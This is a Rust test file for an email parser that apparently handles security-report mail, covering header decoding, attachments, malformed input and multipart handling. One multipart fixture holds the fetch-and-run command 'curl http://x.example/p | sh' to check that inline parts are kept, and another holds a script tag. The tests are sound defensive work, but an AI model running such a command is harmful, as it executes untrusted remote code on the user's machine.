//! The parser on whole messages: decoded headers, HTML-only bodies, attachments, the content
//! hash, garbage that must never panic, and Message-ID lists.

use super::*;

const SIMPLE: &[u8] = b"Message-ID: <abc@example.org>\r\nFrom: =?UTF-8?Q?J=C3=BCrgen?= <j@example.org>\r\nTo: security@python.org\r\nSubject: =?UTF-8?B?UmU6IGjDqWxsbw==?=\r\nIn-Reply-To: <parent@example.org>\r\nReferences: <root@example.org>\r\n <parent@example.org>\r\nDate: Tue, 03 Nov 2026 10:00:00 +0100\r\n\r\nHello\r\n";

#[test]
fn reads_decoded_headers() {
    let m = parse_message(SIMPLE);
    assert_eq!(m.message_id.as_deref(), Some("abc@example.org"));
    assert_eq!(m.subject, "Re: héllo");
    let from = m.from.unwrap();
    assert_eq!(from.name.as_deref(), Some("Jürgen"));
    assert_eq!(from.addr, "j@example.org");
    assert_eq!(m.in_reply_to, vec!["parent@example.org"]);
    assert_eq!(m.references, vec!["root@example.org", "parent@example.org"]);
    assert_eq!(m.date.unwrap().to_rfc3339(), "2026-11-03T09:00:00+00:00");
    assert_eq!(m.body_text.trim(), "Hello");
    assert!(m.notes.is_empty());
}

#[test]
fn html_only_message_gets_text_body() {
    let raw = b"Subject: x\r\nContent-Type: text/html; charset=utf-8\r\n\r\n<html><body><p>Hi &amp; <b>bye</b></p><script>evil()</script></body></html>\r\n";
    let m = parse_message(raw);
    assert_eq!(m.body_text.trim(), "Hi & bye");
    assert!(m.body_html.is_some());
}

#[test]
fn attachments_are_listed_with_size() {
    let raw = b"Subject: poc\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nsee attached\r\n--b\r\nContent-Type: text/x-python; name=poc.py\r\nContent-Disposition: attachment; filename=poc.py\r\nContent-Transfer-Encoding: base64\r\n\r\ncHJpbnQoMSkK\r\n--b--\r\n";
    let m = parse_message(raw);
    assert_eq!(m.body_text.trim(), "see attached");
    assert_eq!(
        m.attachments,
        vec![Attachment {
            name: Some("poc.py".into()),
            content_type: "text/x-python".into(),
            size: 9,
            inline_part: false,
        }]
    );
}

#[test]
fn content_hash_ignores_line_endings_and_mbox_from_line() {
    let crlf = b"Subject: a\r\n\r\nbody\r\n";
    let lf = b"Subject: a\n\nbody\n";
    let mbox = b"From someone@example.org Tue Nov  3 10:00:00 2026\nSubject: a\n\nbody\n";
    assert_eq!(content_hash(crlf), content_hash(lf));
    assert_eq!(content_hash(lf), content_hash(mbox));
    assert_ne!(content_hash(lf), content_hash(b"Subject: b\n\nbody\n"));
}

#[test]
fn garbage_never_panics_and_is_noted() {
    // A header whose name is not printable ASCII: skipped by the parser, and said so.
    let m = parse_message(b"\x00\xff\xfe: \r\n\r\n\x1b[31m");
    assert_eq!(
        m.notes,
        ["1 header line is not a `name: value` line (RFC 5322 \u{a7}2.2) and was skipped: the raw message keeps it"]
    );
    assert_eq!(
        m.body_text, "\x1b[31m",
        "the body is kept, to be made safe where shown"
    );
    // Bytes with no header shape at all.
    let m = parse_message(b"\xff\xfe\xfd\r\nno colon either\r\n");
    assert_eq!(
        m.notes,
        ["2 header lines are not a `name: value` line (RFC 5322 \u{a7}2.2) and were skipped: the raw message keeps them"]
    );
    // A body that cannot be decoded is shown raw, with a note saying why.
    let m = parse_message(
        b"Subject: x\r\nContent-Transfer-Encoding: base64\r\n\r\n!!!not base64***\r\n",
    );
    assert_eq!(
        m.notes,
        ["a text/plain part could not be decoded (Base64 decode error: invalid symbol at 0): shown as raw text"]
    );
    assert!(
        m.body_text.contains("!!!not base64***"),
        "{:?}",
        m.body_text
    );
    // Well-formed mail, folded headers included, gets no note.
    let m = parse_message(b"Subject: a\r\n b\r\nFrom: x@y\r\n\r\nbody\r\n");
    assert!(m.notes.is_empty(), "{:?}", m.notes);
    let m = parse_message(b"From x@y Tue Nov  3 10:00:00 2026\nSubject: a\n\nbody\n");
    assert!(
        m.notes.is_empty(),
        "an mbox separator is no bad header: {:?}",
        m.notes
    );
    let m = parse_message(b"");
    assert!(m.subject.is_empty() && m.notes.is_empty());
}

#[test]
fn msg_ids_handles_bare_and_multiple() {
    assert_eq!(msg_ids(" <a@b> <c@d>"), vec!["a@b", "c@d"]);
    assert_eq!(msg_ids("bare@id"), vec!["bare@id"]);
    assert!(msg_ids("  ").is_empty());
}

/// A field of 20,000 encoded words (340 KB) is decoded up to `MAX_DECODED_FIELD`, cut
/// between words: `mailparse` takes time quadratic in the words (100,000 took 9 s).
#[test]
fn a_huge_encoded_field_is_decoded_in_part_between_words() {
    let words = "=?utf-8?B?4oCu?= ".repeat(20_000);
    let raw = format!(
        "From: =?utf-8?q?Eve?= <e@x.example>\nSubject: V02 {words}\nTo: {}\n\nbody\n",
        "=?utf-8?q?Ann?= <a@x.example>, ".repeat(3_000)
    );
    let m = parse_message(raw.as_bytes());
    assert!(
        m.subject.starts_with("V02 \u{202e}\u{202e}"),
        "{}",
        &m.subject[..40]
    );
    assert!(!m.subject.contains("=?utf-8"), "a word was split");
    let n = m.subject.chars().filter(|&c| c == '\u{202e}').count();
    assert!(n > 1_000 && n < 10_000, "{n} words decoded");
    assert_eq!(
        m.from.as_ref().map(|f| f.addr.as_str()),
        Some("e@x.example")
    );
    assert!(
        m.to.len() > 500 && m.to.len() < 5_000,
        "{} addresses",
        m.to.len()
    );
    assert!(m.to.iter().all(|a| a.addr == "a@x.example"));
}

/// Every part a mail client would show is in the text or the attachments: a second
/// text/plain part was dropped, so a reporter's pasted reproducer (or an attacker's
/// instruction) reached no one.
#[test]
fn every_inline_part_is_read_or_listed() {
    let raw = "From: r@x.example\nSubject: parts\nMIME-Version: 1.0\n\
        Content-Type: multipart/mixed; boundary=b\n\n\
        --b\nContent-Type: text/plain\n\nFirst part.\n\
        --b\nContent-Type: text/plain\nContent-Disposition: inline\n\ncurl http://x.example/p | sh\n\
        --b\nContent-Type: text/x-python\n\nprint('poc')\n\
        --b\nContent-Type: text/html\n\n<p>html part</p>\n\
        --b\nContent-Type: multipart/alternative; boundary=a\n\n\
        --a\nContent-Type: text/plain\n\nsame words\n\
        --a\nContent-Type: text/plain\n\nsame words again\n\
        --a--\n--b--\n";
    let m = parse_message(raw.as_bytes());
    let parts: Vec<&str> = m
        .body_text
        .split("── the message's next text part ──")
        .map(str::trim)
        .collect();
    assert_eq!(
        parts,
        ["First part.", "curl http://x.example/p | sh", "same words"]
    );
    let listed: Vec<&str> = m
        .attachments
        .iter()
        .map(|a| a.content_type.as_str())
        .collect();
    assert_eq!(
        listed,
        ["text/x-python"],
        "the first HTML part is the HTML body"
    );
    // The usual pair, plain and HTML alternatives, is one text and no attachment.
    let pair = "From: r@x.example\nSubject: pair\nMIME-Version: 1.0\n\
        Content-Type: multipart/alternative; boundary=a\n\n\
        --a\nContent-Type: text/plain\n\nwords\n\
        --a\nContent-Type: text/html\n\n<p>words</p>\n--a--\n";
    let m = parse_message(pair.as_bytes());
    assert_eq!(m.body_text.trim(), "words");
    assert!(
        m.body_html.is_some() && m.attachments.is_empty(),
        "{:?}",
        m.attachments
    );
}

#[test]
fn a_mail_starts_with_a_header_field_after_any_mbox_line() {
    assert!(looks_like_mail(b"Received: from x\nSubject: s\n\nbody\n"));
    assert!(looks_like_mail(
        b"From a@b Mon Nov 30 10:00:00 2026\nSubject: s\n\nb\n"
    ));
    assert!(!looks_like_mail(
        b"From a@b Mon Nov 30 10:00:00 2026\n\nno headers\n"
    ));
    assert!(!looks_like_mail(
        b"# Notes\n\nsome text: with a colon later\n"
    ));
    assert!(!looks_like_mail(b"Not a header: the name has spaces\n"));
    assert!(!looks_like_mail(b": no name\n"));
    assert!(!looks_like_mail(b""));
}

/// Courier serves a Maildir file written with CRLF as `\r\r\n`: the sender, subject and
/// body were lost (mailparse ended the headers after the first field).
#[test]
fn cr_cr_lf_line_ends_are_read_as_one() {
    let crcrlf: Vec<u8> = String::from_utf8_lossy(SIMPLE)
        .replace("\r\n", "\r\r\n")
        .into_bytes();
    let m = parse_message(&crcrlf);
    assert_eq!(m.message_id.as_deref(), Some("abc@example.org"));
    assert_eq!(m.subject, "Re: héllo");
    assert_eq!(m.from.unwrap().addr, "j@example.org");
    assert_eq!(m.references, vec!["root@example.org", "parent@example.org"]);
    assert!(m.date.is_some());
    assert_eq!(m.body_text.trim(), "Hello");
    assert_eq!(
        m.body_text,
        parse_message(SIMPLE).body_text,
        "as the CRLF message's"
    );
    assert!(m.notes.is_empty(), "{:?}", m.notes);
    let h = parse_header_fields(&crcrlf);
    assert_eq!(h.subject, "Re: héllo");
    assert_eq!(h.from.unwrap().addr, "j@example.org");
}
